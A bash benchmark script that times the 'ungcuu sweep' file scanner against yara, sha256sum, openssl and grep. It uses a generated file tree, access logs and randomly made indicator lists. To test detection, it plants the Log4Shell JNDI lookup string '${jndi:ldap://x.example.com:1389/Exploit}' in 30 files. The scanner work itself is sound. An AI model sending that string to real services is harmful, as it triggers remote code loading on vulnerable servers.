#!/usr/bin/env bash
# tests/bench/sweep.sh [BINARY] - `make bench`: `ungcuu sweep` side by
# side with its peers, in one run on this machine, on one generated tree
# and one set of rules:
#   tree   20,000 files, 1.1 GB (1.02 GiB), in 200 directories: half text
#          (access-log lines), half random bytes, sizes log-normal from
#          256 B to 8 MiB; 30 files carry a log4j JNDI string, 20 are
#          named *.log, 10 have their SHA-256 in the hash list;
#   YARA   `ungcuu sweep` with the two YARA fixture files against
#          `yara -r -p 2` (Debian's yara) with the same files: seconds and
#          the ratio (yara / ungcuu; >= 1 means ungcuu is at least as fast),
#          and the files each one flagged (they must agree);
#   hashes `ungcuu sweep` with 1,010 SHA-256 indicators against sha256sum
#          over every file (find | xargs -P CORES), ratio as above; and the
#          hashing rate against `openssl speed -multi CORES -evp sha256
#          -bytes 16384` (all the cores the sweep uses, hashing at once;
#          measured in turns with the sweep, best of the rounds like the
#          sweep, so that other load on the machine hits both alike), target
#          80 %: by wall clock, with the start of the program and the load of
#          the list (a sweep of an empty directory, also best of the rounds)
#          taken out as for the logs, and by CPU time (what the kernel spends
#          copying from the page cache, a fifth here, shows there); and the
#          same rate of tests/bench/bare_hash.c, the least a program must do
#          to hash every file (open, read, SHA-256, close on CORES threads,
#          no walk), which tells what share of openssl speed this machine
#          lets any file reader reach, and how much of it ungcuu reaches;
#   all    YARA, hashes and the log indicators in one sweep, for the record;
#   logs   50 MB of access logs (three 16 MiB files) with 100,000 indicators
#          (40,000 IPs, 40,000 domains, 10,000 URLs, 10,000 e-mail
#          addresses): MB/s of `ungcuu sweep` (all cores, and one) against
#          `grep -F -f` with the same list (LC_ALL=C, one core), and
#          ungcuu's MB/s with 1,000 of the indicators (the rate must not
#          depend on their number).
# Each ungcuu and peer timing is the best of BENCH_ROUNDS runs (default 2),
# taken in turns; the all-in-one sweep and grep run once (grep is the slow
# one). The whole bench takes about a minute on 2 idle cores. The tree stays in the
# page cache (it was just written), for every program alike.
#
# Exit status: 0 every target met, 1 a target missed, 2 the bench could not
# run. BINARY defaults to $BUILD/ungcuu (BUILD: build). Environment:
# BENCH_ROUNDS, BENCH_TMPDIR (where the tree goes, default $TMPDIR or /tmp; it needs
# 1.2 GB), BENCH_KEEP=1 (keep the tree and print where it is).
set -euo pipefail

cd "$(dirname "$0")/../.."
BIN=${1:-${BUILD:-build}/ungcuu}
ROUNDS=${BENCH_ROUNDS:-2}
FILES=20000
TOTAL=1100000000
LOG_MB=48
CORES=$(nproc)
YARA_RULES=(tests/data/sweep/expl_log4j_cve_2021_44228.yar tests/data/sweep/Win32.Ransomware.LockBit.yara)

die() { echo "bench: $*" >&2; exit 2; }
for tool in yara sha256sum openssl grep python3 find xargs; do
	command -v "$tool" >/dev/null || die "$tool not found (apt-get install yara coreutils openssl grep python3 findutils)"
done
[ -x "$BIN" ] || die "$BIN not found: build first (make build)"
CC=${CC:-cc}
command -v "$CC" >/dev/null || die "$CC not found (apt-get install gcc)"
# the load before the bench's own work: other programs running meanwhile
LOAD=$(cut -d' ' -f1 /proc/loadavg)

TMP=$(mktemp -d "${BENCH_TMPDIR:-${TMPDIR:-/tmp}}/ungcuu-sweep-bench.XXXXXX")
# shellcheck disable=SC2317 # (run by the EXIT trap)
cleanup() {
	if [ "${BENCH_KEEP:-0}" = 1 ]; then
		echo "bench: kept $TMP" >&2
	else
		rm -rf "$TMP"
	fi
}
trap cleanup EXIT

# ---------------------------------------------------------------- the data

python3 - "$TMP" "$FILES" "$TOTAL" "$LOG_MB" <<'EOF'
import hashlib, os, random, sys
tmp, nfiles, total, log_mb = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
rnd = random.Random(20251124)
POOL = 16 << 20

def word(k=None):
    return "".join(rnd.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=k or rnd.randrange(5, 12)))

def ip():
    return "%d.%d.%d.%d" % (rnd.randrange(1, 224), rnd.randrange(256), rnd.randrange(256), rnd.randrange(256))

# --- indicators: 100,000 for the logs, 1,000 of them for the second run
tlds = ["com", "net", "org", "vn", "info", "ru", "cn", "io"]
ips = [ip() for _ in range(40000)]
doms = ["%s.%s" % (word(), rnd.choice(tlds)) for _ in range(40000)]
urls = ["http://%s.%s/%s/%s.php" % (word(), rnd.choice(tlds), word(), word()) for _ in range(10000)]
mails = ["%s@%s.%s" % (word(), word(), rnd.choice(tlds)) for _ in range(10000)]
iocs = ips + doms + urls + mails
with open(os.path.join(tmp, "iocs-100000.txt"), "w") as f:
    f.write("\n".join(iocs) + "\n")
with open(os.path.join(tmp, "iocs-1000.txt"), "w") as f:
    f.write("\n".join(ips[:400] + doms[:400] + urls[:100] + mails[:100]) + "\n")

# --- access logs: 16 MB of lines, 0.2 % of them with an indicator
paths = ["/", "/index.html", "/wp-login.php", "/api/v1/items", "/static/app.js", "/images/logo.png"]
uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", "curl/7.88.1"]
hosts = ["www.%s.gov.vn" % word() for _ in range(200)]
lines, size = [], 0
while size < 16 << 20:
    a, ref, q = ip(), "https://%s/%s" % (rnd.choice(hosts), word()), "?q=" + word()
    r = rnd.random()
    if r < 0.0005: a = rnd.choice(ips[:400])
    elif r < 0.001: ref = "http://sub.%s/x" % rnd.choice(doms[:400])
    elif r < 0.0015: ref = rnd.choice(urls[:100])
    elif r < 0.002: q = "?email=" + rnd.choice(mails[:100])
    l = '%s - - [24/Nov/2025:10:%02d:%02d +0700] "GET %s%s HTTP/1.1" 200 %d "%s" "%s"\n' % (
        a, rnd.randrange(60), rnd.randrange(60), rnd.choice(paths), q, rnd.randrange(50000), ref, rnd.choice(uas))
    lines.append(l)
    size += len(l)
block = "".join(lines).encode()
os.makedirs(os.path.join(tmp, "logs"))
for i in range(log_mb // 16):
    with open(os.path.join(tmp, "logs", "access.log" + (".%d" % i if i else "")), "wb") as f:
        f.write(block)

# --- the tree
textpool = (block * (POOL // len(block) + 1))[:POOL]
binpool = rnd.randbytes(POOL)
sizes = [min(8 << 20, max(256, int(rnd.lognormvariate(9.6, 1.5)))) for _ in range(nfiles)]
scale = total / sum(sizes)
sizes = [min(8 << 20, max(256, int(s * scale))) for s in sizes]
i = 0
while sum(sizes) < total:
    sizes[i] = min(8 << 20, sizes[i] + total - sum(sizes))
    i += 1
while sum(sizes) > total:
    sizes[i] -= min(sizes[i] - 256, sum(sizes) - total)
    i += 1
plant = set(rnd.sample(range(nfiles), 30))
logs = set(rnd.sample(range(nfiles), 20)) - plant
hashed = set(rnd.sample(range(nfiles), 10))
jndi = b"${jndi:ldap://x.example.com:1389/Exploit}"
digests = []
for k in range(nfiles):
    d = os.path.join(tmp, "tree", "d%02d" % (k // 1000), "e%02d" % (k // 100 % 10))
    if k % 100 == 0:
        os.makedirs(d)
    n = sizes[k]
    text = k % 2 == 0 or k in logs or k in plant
    pool = textpool if text else binpool
    off = rnd.randrange(0, POOL - n)
    data = pool[off:off + n]
    if k in plant:
        data = (data[:n // 2] + jndi + data[n // 2:])[:n]
    name = "f%05d.%s" % (k, "log" if k in logs else "txt" if text else "bin")
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    if k in hashed:
        digests.append(hashlib.sha256(data).hexdigest())
with open(os.path.join(tmp, "hashes.txt"), "w") as f:
    f.write("# 10 files of the tree, 1,000 others\n")
    f.write("\n".join(digests + [rnd.randbytes(32).hex() for _ in range(1000)]) + "\n")
EOF

TREE=$TMP/tree
BARE=$TMP/bare_hash
"$CC" -std=c17 -O2 -Wall -Wextra -Werror -pthread -o "$BARE" tests/bench/bare_hash.c -lcrypto ||
	die "cannot build tests/bench/bare_hash.c (apt-get install libssl-dev)"
find "$TREE" -type f -print0 > "$TMP/files"
BYTES=$(find "$TREE" -type f -printf '%s\n' | awk '{s += $1} END {print s}')
NFILES=$(find "$TREE" -type f | wc -l)
LOG_BYTES=$(cat "$TMP"/logs/* | wc -c)

# ---------------------------------------------------------------- timing

# t CMD... : runs CMD (stdout to $TMP/out, stderr to $TMP/err), sets
# WALL (s) and CPU (user + system s); a status other than 0 or 1 stops the
# bench (ungcuu and grep exit 1 on a match).
t() {
	local rc=0
	/usr/bin/time -f '%e %U %S' -o "$TMP/time" "$@" > "$TMP/out" 2> "$TMP/err" || rc=$?
	if [ "$rc" -gt 1 ]; then
		cat "$TMP/err" >&2
		die "$1 exited with $rc"
	fi
	# GNU time puts "Command exited with non-zero status N" first
	read -r WALL u s < <(tail -n 1 "$TMP/time")
	CPU=$(awk -v u="$u" -v s="$s" 'BEGIN {print u + s}')
}

# keep NAME: NAME_WALL, NAME_CPU become WALL, CPU if WALL is shorter (or
# NAME_WALL is unset).
keep() {
	local w="${1}_WALL"
	if [ -z "${!w:-}" ] || awk -v a="$WALL" -v b="${!w}" 'BEGIN {exit !(a < b)}'; then
		printf -v "${1}_WALL" '%s' "$WALL"
		printf -v "${1}_CPU" '%s' "$CPU"
	fi
}

# best NAME CMD... : the shortest of ROUNDS runs into NAME_WALL, NAME_CPU;
# the output of the last run stays in $TMP/out.
best() {
	local name=$1 i
	shift
	for ((i = 0; i < ROUNDS; i++)); do
		t "$@"
		keep "$name"
	done
}

command -v /usr/bin/time >/dev/null || die "/usr/bin/time not found (apt-get install time)"
rules=()
for r in "${YARA_RULES[@]}"; do rules+=(--rules "$r"); done

# YARA and hashes: ungcuu and its peer in turns
for ((i = 0; i < ROUNDS; i++)); do
	t "$BIN" sweep --quiet --json "${rules[@]}" "$TREE"
	keep U_YARA
	U_YARA_FILES=$(grep -c '"kind":"yara"' "$TMP/out" || true)
	t yara -r -p 2 "${YARA_RULES[@]}" "$TREE"
	keep Y_YARA
	Y_YARA_FILES=$(wc -l < "$TMP/out")
done
mkdir "$TMP/empty"
OPENSSL_KBS=0
for ((i = 0; i < ROUNDS; i++)); do
	t "$BIN" sweep --quiet --json --rules "$TMP/hashes.txt" "$TREE"
	keep U_HASH
	U_HASH_HITS=$(wc -l < "$TMP/out")
	t "$BIN" sweep --quiet --json --rules "$TMP/hashes.txt" "$TMP/empty"
	keep U_START
	t sh -c 'find "$1" -type f -print0 | xargs -0 -P "$2" -n 500 sha256sum' sh "$TREE" "$CORES"
	keep S_HASH
	t sh -c '"$1" "$2" < "$3"' sh "$BARE" "$CORES" "$TMP/files"
	keep B_HASH
	kbs=$(openssl speed -multi "$CORES" -evp sha256 -bytes 16384 -seconds 2 2>/dev/null |
		awk '/^sha256/ {print $2}' | tr -d k)
	OPENSSL_KBS=$(awk -v a="$OPENSSL_KBS" -v b="${kbs:-0}" 'BEGIN {print (b > a ? b : a)}')
done
[ "$OPENSSL_KBS" != 0 ] || die "openssl speed -multi $CORES gave no sha256 figure"

# everything at once
t "$BIN" sweep --quiet --json "${rules[@]}" --rules "$TMP/hashes.txt" \
	--rules "$TMP/iocs-100000.txt" "$TREE"
keep U_ALL
U_ALL_HITS=$(wc -l < "$TMP/out")

# logs
best U_LOG "$BIN" sweep --quiet --json --rules "$TMP/iocs-100000.txt" "$TMP/logs"
U_LOG_HITS=$(wc -l < "$TMP/out")
best U_LOG1 "$BIN" sweep --quiet --json --threads 1 --rules "$TMP/iocs-100000.txt" "$TMP/logs"
best U_LOGK "$BIN" sweep --quiet --json --threads 1 --rules "$TMP/iocs-1000.txt" "$TMP/logs"
# the load of the list itself, to take out of the rate
best U_LOAD "$BIN" sweep --quiet --json --threads 1 --rules "$TMP/iocs-100000.txt" "$TMP/hashes.txt"
LC_ALL=C t grep -F -c -f "$TMP/iocs-100000.txt" "$TMP"/logs/*
G_LOG_WALL=$WALL
G_LOG_LINES=$(awk -F: '{s += $NF} END {print s}' "$TMP/out")

# ---------------------------------------------------------------- report

awk -v bytes="$BYTES" -v files="$NFILES" -v cores="$CORES" -v logb="$LOG_BYTES" -v load="$LOAD" \
	-v uy="$U_YARA_WALL" -v uyc="$U_YARA_CPU" -v yy="$Y_YARA_WALL" -v yyc="$Y_YARA_CPU" \
	-v uyf="$U_YARA_FILES" -v yyf="$Y_YARA_FILES" \
	-v uh="$U_HASH_WALL" -v uhc="$U_HASH_CPU" -v sh="$S_HASH_WALL" -v shc="$S_HASH_CPU" \
	-v uhh="$U_HASH_HITS" -v ossl="$OPENSSL_KBS" -v ust="$U_START_WALL" -v bh="$B_HASH_WALL" \
	-v ua="$U_ALL_WALL" -v uac="$U_ALL_CPU" -v uah="$U_ALL_HITS" \
	-v ul="$U_LOG_WALL" -v ul1="$U_LOG1_WALL" -v ulk="$U_LOGK_WALL" -v uld="$U_LOAD_WALL" \
	-v ulh="$U_LOG_HITS" -v gl="$G_LOG_WALL" -v glh="$G_LOG_LINES" -v rounds="$ROUNDS" '
function gbs(t) { return t > 0 ? bytes / t / 1e9 : 0 }
function mbs(t) { return t > 0 ? logb / t / 1e6 : 0 }
function verdict(ok) { if (!ok) missed++; return ok ? "ok" : "MISSED" }
function row(name, u, uc, p, pc,   r) {
	r = u > 0 ? p / u : 0
	printf "%-36s %8.2f %7.2f %6.2f %8.2f %7.2f %6.2f %6.2f %6.2f  >= 1 %s\n", name, u, uc, gbs(u), p, pc, gbs(p), r, (uc > 0 ? pc / uc : 0), verdict(r >= 1)
}
BEGIN {
	printf "ungcuu sweep bench: %d files, %.2f GB (%.2f GiB), %d cores, best of %d runs\n", files, bytes / 1e9, bytes / 2^30, cores, rounds
	if (load > cores / 2)
		printf "NOTE: load average %.1f on %d cores before the bench: other work may run meanwhile; wall-clock figures are unreliable, CPU times less so\n", load, cores
	printf "\n%-36s %8s %7s %6s %8s %7s %6s %6s %6s  %s\n", "", "ungcuu s", "cpu s", "GB/s", "peer s", "cpu s", "GB/s", "ratio", "cpu", "target (ratio: peer / ungcuu)"
	row("YARA (2 files, 8 rules), yara -r -p 2", uy, uyc, yy, yyc)
	printf "%-36s %8d %23d\n", "  rule hits (rule, file)", uyf, yyf
	if (uyf != yyf) { missed++; printf "  MISMATCH: ungcuu and yara flagged different files\n" }
	row("SHA-256 (1,010), sha256sum -P " cores, uh, uhc, sh, shc)
	printf "%-36s %8d\n", "  files whose hash is listed", uhh
	if (uhh != 10) { missed++; printf "  MISMATCH: 10 planted files, %d found\n", uhh }
	# ossl: openssl speed -multi cores, all the cores together
	ceil = ossl * 1000 / 1e9
	printf "%-36s %6.2f GB/s = %3.0f %% of openssl speed -multi %d -evp sha256 (16 KB) %.2f GB/s  >= 80 %% %s\n", "hashing rate, wall clock", gbs(uh - ust), 100 * gbs(uh - ust) / ceil, cores, ceil, verdict(gbs(uh - ust) >= 0.8 * ceil)
	printf "%-36s %8.2f s (start and loading the list, taken out above)\n", "  sweep of an empty directory", ust
	printf "%-36s %6.2f GB/s = %3.0f %% of openssl speed: the most a program reading the files reaches here\n", "  bare read-and-hash loop", gbs(bh), 100 * gbs(bh) / ceil
	printf "%-36s %6.0f %% of the bare loop\n", "  ungcuu sweep", (gbs(bh) > 0 ? 100 * gbs(uh - ust) / gbs(bh) : 0)
	if (gbs(bh) < 0.8 * ceil)
		printf "  NOTE: the 80 %% target is out of reach on this machine: the bare loop (tests/bench/bare_hash.c) itself gets %.0f %%\n", 100 * gbs(bh) / ceil
	printf "%-36s %6.2f GB/s a busy core = %3.0f %% of openssl speed a core (with the kernel reading the page cache)\n", "hashing rate, CPU time", bytes / uhc / 1e9, 100 * (bytes / uhc) / (ossl * 1000 / cores)
	printf "%-36s %8.2f %7.2f %6.2f  %d hits\n", "all: YARA + hashes + 100,000 IOCs", ua, uac, gbs(ua), uah
	printf "\n%-36s %8s %7s  (%.0f MB in 3 files; loading the list, %.2f s, taken out)\n", "logs, 100,000 indicators", "MB/s", "hits", logb / 1e6, uld
	printf "%-36s %8.0f %7d\n", "  ungcuu, " cores " workers", mbs(ul - uld), ulh
	printf "%-36s %8.0f\n", "  ungcuu, 1 worker", mbs(ul1 - uld)
	printf "%-36s %8.0f %7d  (lines; -F also matches inside longer words)\n", "  grep -F -f (LC_ALL=C), 1 core", mbs(gl), glh
	printf "%-36s %8.1f  >= 1 %s\n", "  ratio ungcuu 1 worker / grep", (mbs(gl) > 0 ? mbs(ul1 - uld) / mbs(gl) : 0), verdict(mbs(ul1 - uld) >= mbs(gl))
	printf "%-36s %8.0f  (1 worker: the rate hardly depends on the number of indicators)\n", "  ungcuu, 1,000 indicators", mbs(ulk)
	exit missed ? 1 : 0
}'
